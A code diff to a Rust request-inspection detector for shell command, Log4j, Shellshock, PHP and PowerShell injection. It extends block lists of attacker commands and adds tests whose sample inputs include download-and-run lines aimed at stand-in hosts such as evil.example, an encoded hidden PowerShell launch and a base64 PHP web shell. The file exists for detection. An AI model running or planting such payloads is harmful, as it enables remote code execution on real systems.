@@ -26,7 +26,7 @@ use aho_corasick::AhoCorasick;
 use super::classes::ByteClasses;
 use super::memo::{self, Classifier};
 use super::targets::Classified;
-use super::targets::{injection_targets, push_once};
+use super::targets::{injection_targets, push_once, Target};
 use super::transform::{apply, url_decode_uni};
 use super::{strip_prefix_ci, Deadline, Detector, Finding, OutOfTime, Severity};
 use crate::decode::percent_decode;
@@ -39,13 +39,15 @@ pub const COMMAND_INJECTION: u32 = 100800;
 pub const LOG4J_LOOKUP: u32 = 100801;
 /// Rule id: a Shellshock function definition (CVE-2014-6271).
 pub const SHELLSHOCK: u32 = 100802;
-/// Rule id: PHP code, a code-running stream wrapper or a Java runtime call.
+/// Rule id: PHP code or a call of a dangerous PHP function, a code-running stream wrapper, a
+/// Java runtime call, or a PowerShell download-and-run cradle.
 pub const CODE_INJECTION: u32 = 100803;
 
 const MSG_COMMAND: &str = "Remote command execution: shell command injection";
 const MSG_LOG4J: &str = "Remote command execution: Log4j JNDI lookup (Log4Shell)";
 const MSG_SHELLSHOCK: &str = "Remote command execution: Shellshock function definition";
-const MSG_CODE: &str = "Code injection: PHP code, stream wrapper or Java runtime call";
+const MSG_CODE: &str =
+    "Code injection: PHP code or function call, stream wrapper, Java runtime call or PowerShell";
 
 /// How much of a shell-looking context a command name needs to count.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -64,8 +66,8 @@ enum Strength {
 
 /// Commands attackers run first (reconnaissance, download, reverse shells), lower case.
 const COMMANDS: &[(&str, Strength)] = &[
-    ("bash", Strength::Strong),
     ("base64", Strength::Weak),
+    ("bash", Strength::Strong),
     ("bitsadmin", Strength::Strong),
     ("busybox", Strength::Strong),
     ("cat", Strength::Weak),
@@ -74,6 +76,8 @@ const COMMANDS: &[(&str, Strength)] = &[
     ("chown", Strength::Strong),
     ("cmd", Strength::Weak),
     ("cmd.exe", Strength::Strong),
+    ("crontab", Strength::Strong),
+    ("cscript", Strength::Strong),
     ("curl", Strength::Strong),
     ("dash", Strength::Weak),
     ("dir", Strength::Weak),
@@ -83,19 +87,26 @@ const COMMANDS: &[(&str, Strength)] = &[
     ("head", Strength::Weak),
     ("hostname", Strength::Weak),
     ("id", Strength::Weak),
+    ("iex", Strength::Strong),
     ("ifconfig", Strength::Strong),
     ("ipconfig", Strength::Strong),
+    ("irm", Strength::Strong),
+    ("iwr", Strength::Strong),
     ("kill", Strength::Numeric),
     ("ksh", Strength::Strong),
     ("less", Strength::Weak),
     ("ls", Strength::Weak),
     ("lua", Strength::Interpreter),
     ("more", Strength::Weak),
+    ("mshta", Strength::Strong),
+    ("msiexec", Strength::Strong),
     ("nc", Strength::Numeric),
     ("ncat", Strength::Strong),
     ("net", Strength::Weak),
     ("netcat", Strength::Strong),
     ("netstat", Strength::Strong),
+    ("nltest", Strength::Strong),
+    ("nmap", Strength::Strong),
     ("node", Strength::Interpreter),
     ("nslookup", Strength::Strong),
     ("passwd", Strength::Weak),
@@ -111,10 +122,14 @@ const COMMANDS: &[(&str, Strength)] = &[
     ("python2", Strength::Interpreter),
     ("python3", Strength::Interpreter),
     ("reg", Strength::Weak),
+    ("regsvr32", Strength::Strong),
     ("rm", Strength::Weak),
     ("ruby", Strength::Interpreter),
+    ("rundll32", Strength::Strong),
+    ("schtasks", Strength::Strong),
     ("sh", Strength::Weak),
     ("sleep", Strength::Numeric),
+    ("socat", Strength::Strong),
     ("systeminfo", Strength::Strong),
     ("tail", Strength::Weak),
     ("tasklist", Strength::Strong),
@@ -123,9 +138,12 @@ const COMMANDS: &[(&str, Strength)] = &[
     ("touch", Strength::Weak),
     ("type", Strength::Weak),
     ("uname", Strength::Strong),
+    ("useradd", Strength::Strong),
+    ("vssadmin", Strength::Strong),
     ("wget", Strength::Strong),
     ("whoami", Strength::Strong),
     ("wmic", Strength::Strong),
+    ("wscript", Strength::Strong),
     ("xterm", Strength::Strong),
     ("zsh", Strength::Strong),
 ];
@@ -142,9 +160,18 @@ const CODE_LITERALS: &[&str] = &[
     "php://fd",
     "expect://",
     "phar://",
+    // A base64 `data:` URI whose content starts with `<?` (PHP code, `PD9waHA` for `<?php`).
+    "base64,pd9",
     "java.lang.runtime",
     "java.lang.processbuilder",
     "getruntime().exec(",
+    "invoke-webrequest",
+    "invoke-expression",
+    "invoke-restmethod",
+    "net.webclient",
+    "downloadstring(",
+    "downloadfile(",
+    "frombase64string(",
 ];
 
 /// How a command position was reached.
@@ -175,24 +202,22 @@ impl CommandInjection {
         CommandInjection { code }
     }
 
-    /// Checks one injection target's value, pushing what it finds. One pass over its bytes
-    /// ([`classes`]) decides whether any check can find anything; most values (words, numbers,
-    /// prices) need none. The others' answers are kept in the per-thread memo: `User-Agent`,
-    /// `Referer` and cookies repeat from request to request.
+    /// Checks one injection target's value, pushing what it finds. Its byte classes decide
+    /// whether any check but the start-of-value invocation can find anything; most values
+    /// (words, numbers, prices) need none. The others' answers are kept in the per-thread memo:
+    /// `User-Agent`, `Referer` and cookies repeat from request to request.
     /// `out[from..]` are this request's findings: a variable is reported once per rule.
-    fn inspect_value(
-        &self,
-        value: &[u8],
-        variable: &dyn Fn() -> String,
-        from: usize,
-        out: &mut Vec<Finding>,
-    ) {
-        if classes(value) == 0 {
-            return;
-        }
-        let Some(hits) = memo::classify(Classifier::Command, value, |v| self.hits(v)) else {
+    fn inspect_value(&self, target: &Target<'_>, from: usize, out: &mut Vec<Finding>) {
+        let value = target.value;
+        let hits = if target.classes.any(ByteClasses::COMMAND) {
+            memo::classify(Classifier::Command, value, |v| self.hits(v))
+        } else {
+            invocation_at_start(value).map(command_hit)
+        };
+        let Some(hits) = hits else {
             return;
         };
+        let variable = || target.variable();
         let decoded = decoded(value);
         for (bit, id, msg) in [
             (COMMAND_HIT, COMMAND_INJECTION, MSG_COMMAND),
@@ -217,11 +242,12 @@ impl CommandInjection {
         let decoded = decoded(value);
         let seen = classes(&decoded);
         let mut hits = [0u8; 8];
-        if seen & SEPARATOR != 0 {
-            if let Some(index) = find_command(&fold_command_line(&decoded)) {
-                hits[0] |= COMMAND_HIT;
-                hits[1] = u8::try_from(index).unwrap_or(u8::MAX);
-            }
+        let command = (seen & SEPARATOR != 0)
+            .then(|| find_command(&fold_command_line(&decoded)))
+            .flatten()
+            .or_else(|| invocation_at_start(&decoded));
+        if let Some(index) = command {
+            hits = command_hit(index);
         }
         if seen & DOLLAR != 0 && has_log4j_lookup(&decoded) {
             hits[0] |= LOG4J_HIT;
@@ -229,11 +255,140 @@ impl CommandInjection {
         if seen & CODE != 0 && is_shellshock(&decoded) {
             hits[0] |= SHELLSHOCK_HIT;
         }
-        if seen & CODE != 0 && self.code.is_match(&*decoded) {
+        if seen & CODE != 0 && (self.code.is_match(&*decoded) || has_php_call(&decoded)) {
             hits[0] |= CODE_HIT;
         }
         (hits[0] != 0).then_some(hits)
     }
+}
+
+/// The hits of a command found at `index` of [`COMMANDS`].
+fn command_hit(index: usize) -> [u8; 8] {
+    let mut hits = [0u8; 8];
+    hits[0] = COMMAND_HIT;
+    hits[1] = u8::try_from(index).unwrap_or(u8::MAX);
+    hits
+}
+
+/// What a command started at the very start of a value needs after its name to run a command
+/// or a shell.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Switch {
+    /// `/c` or `/k` (`cmd /c whoami`).
+    Slash,
+    /// Any option (`powershell -nop …`).
+    Dash,
+    /// `-c` or `-i` (`bash -c 'id'`, `sh -i`).
+    Shell,
+}
+
+/// Shells and their switches, for [`invocation_at_start`].
+const INVOCATIONS: &[(&str, Switch)] = &[
+    ("cmd", Switch::Slash),
+    ("cmd.exe", Switch::Slash),
+    ("powershell", Switch::Dash),
+    ("powershell.exe", Switch::Dash),
+    ("pwsh", Switch::Dash),
+    ("bash", Switch::Shell),
+    ("dash", Switch::Shell),
+    ("ksh", Switch::Shell),
+    ("sh", Switch::Shell),
+    ("zsh", Switch::Shell),
+];
+
+/// The index in [`COMMANDS`] of a shell started at the very start of `value` with the switch
+/// that makes it run a command (`cmd /c`, `cmd.exe /k`, `powershell -…`, `bash -c`, `sh -i`),
+/// also behind a directory (`/bin/sh -c`). Without a separator before it a shell's name is just
+/// a word; followed by such a switch, it is a command line.
+fn invocation_at_start(value: &[u8]) -> Option<usize> {
+    let mut s = value.trim_ascii_start();
+    if s.first() == Some(&b'/') {
+        let dir_end = s
+            .iter()
+            .take_while(|&&b| b == b'/' || b.is_ascii_alphanumeric() || b == b'.')
+            .count();
+        let name_start = s[..dir_end].iter().rposition(|&b| b == b'/')? + 1;
+        s = &s[name_start..];
+    }
+    let word_len = s
+        .iter()
+        .take_while(|&&b| b.is_ascii_alphanumeric() || b == b'.')
+        .count();
+    let (name, switch) = INVOCATIONS
+        .iter()
+        .find(|(name, _)| name.as_bytes().eq_ignore_ascii_case(&s[..word_len]))?;
+    let rest = &s[word_len..];
+    let blanks = skip_blanks(rest, 0);
+    let arg = &rest[blanks..];
+    let exactly = |switch: &[u8]| {
+        strip_prefix_ci(arg, switch)
+            .is_some_and(|after| after.first().map_or(true, u8::is_ascii_whitespace))
+    };
+    let runs = blanks > 0
+        && match switch {
+            Switch::Slash => exactly(b"/c") || exactly(b"/k"),
+            Switch::Dash => {
+                arg.first() == Some(&b'-') && arg.get(1).is_some_and(u8::is_ascii_alphabetic)
+            }
+            Switch::Shell => exactly(b"-c") || exactly(b"-i"),
+        };
+    runs.then(|| COMMANDS.iter().position(|(c, _)| c == name))
+        .flatten()
+}
+
+/// PHP functions that run commands or code, or read, write or decode what an attacker sends,
+/// lower case (CRS 933150's high-risk names).
+const PHP_FUNCTIONS: &[&str] = &[
+    "assert",
+    "base64_decode",
+    "call_user_func",
+    "call_user_func_array",
+    "create_function",
+    "eval",
+    "exec",
+    "file_get_contents",
+    "file_put_contents",
+    "fsockopen",
+    "gzinflate",
+    "move_uploaded_file",
+    "passthru",
+    "pcntl_exec",
+    "phpinfo",
+    "popen",
+    "proc_open",
+    "shell_exec",
+    "str_rot13",
+    "system",
+    "unserialize",
+];
+
+/// True when `value` calls one of [`PHP_FUNCTIONS`] the way injected PHP does: the name as a
+/// whole word, `(` after it (blanks allowed), then a quoted string or a variable (`system('id')`,
+/// `passthru($_GET['c'])`), or nothing at all for `phpinfo()`. Prose such as "the solar
+/// system (planets)" or "operating system(s)" passes.
+fn has_php_call(value: &[u8]) -> bool {
+    memchr::memchr_iter(b'(', value).any(|open| {
+        let before = value[..open].trim_ascii_end();
+        let name_len = before
+            .iter()
+            .rev()
+            .take_while(|&&b| b.is_ascii_alphanumeric() || b == b'_')
+            .count();
+        let name = &before[before.len() - name_len..];
+        if name.is_empty()
+            || !PHP_FUNCTIONS
+                .iter()
+                .any(|f| f.as_bytes().eq_ignore_ascii_case(name))
+        {
+            return false;
+        }
+        let arg = value[open + 1..].trim_ascii_start();
+        match arg.first() {
+            Some(b'\'' | b'"' | b'$' | b'`') => true,
+            Some(b')') => name.eq_ignore_ascii_case(b"phpinfo"),
+            _ => false,
+        }
+    })
 }
 
 /// `value` after one more percent-decoding pass (`%uXXXX` included), when it has a `%`.
@@ -270,11 +425,8 @@ impl Detector for CommandInjection {
     ) -> Result<(), OutOfTime> {
         let from = out.len();
         for target in injection_targets(inputs) {
-            if !target.classes.any(ByteClasses::COMMAND) {
-                continue;
-            }
             deadline.check()?;
-            self.inspect_value(target.value, &|| target.variable(), from, out);
+            self.inspect_value(&target, from, out);
         }
         // Log4Shell and Shellshock payloads ride in any header (`X-Api-Version`, `Cookie` …).
         for field in inputs.fields.iter().filter(|f| f.source == Source::Header) {
@@ -613,6 +765,15 @@ mod tests {
             "| nc 10.0.0.1 4444",
             "8.8.8.8|id",
             "; kill -9 1",
+            ";mshta http://evil.example/x.hta",
+            "| certutil -urlcache -split -f http://evil.example/x.exe",
+            "& rundll32 shell32.dll,Control_RunDLL",
+            ";iwr http://example.com/path/file.ps1",
+            "cmd.exe /c whoami",
+            "cmd /k dir",
+            "powershell -nop -w hidden -enc SQBFAFgA",
+            "  /bin/sh -c id",
+            "bash -i",
         ] {
             assert_eq!(fires(v), [COMMAND_INJECTION], "missed {v:?}");
         }
@@ -647,6 +808,12 @@ mod tests {
             "Name: John; ID 12345",
             "Relax; sleep 8 hours a night",
             "Charlotte; NC",
+            "cmd key on a Mac",
+            "powershell tutorial for beginners",
+            "bash scripting course",
+            "sh",
+            "/bin/sh",
+            "dash cam - front and rear",
             "more & less - a story",
             "https://shop.example.com/p?id=5&type=/home&cat=2",
             "{\"a\": {\"cat\": 1}}",
@@ -713,6 +880,13 @@ mod tests {
             "phar://uploads/x.jpg",
             "${T(java.lang.Runtime).getRuntime().exec('id')}",
             "java.lang.ProcessBuilder",
+            "system('id');",
+            "passthru($_GET['c'])",
+            "phpinfo()",
+            "eval (\"echo 1;\")",
+            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
+            "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
+            "Invoke-WebRequest http://example.com/path/file.ps1",
         ] {
             assert!(fires(v).contains(&CODE_INJECTION), "missed {v:?}");
         }
@@ -720,6 +894,10 @@ mod tests {
             "<?xml version=\"1.0\"?>",
             "see php.net docs",
             "Java runtime 21",
+            "the solar system (planets)",
+            "operating system(s)",
+            "Eval (2024): results",
+            "exec(utive) summary",
         ] {
             assert!(fires(v).is_empty(), "false positive on {v:?}");
         }
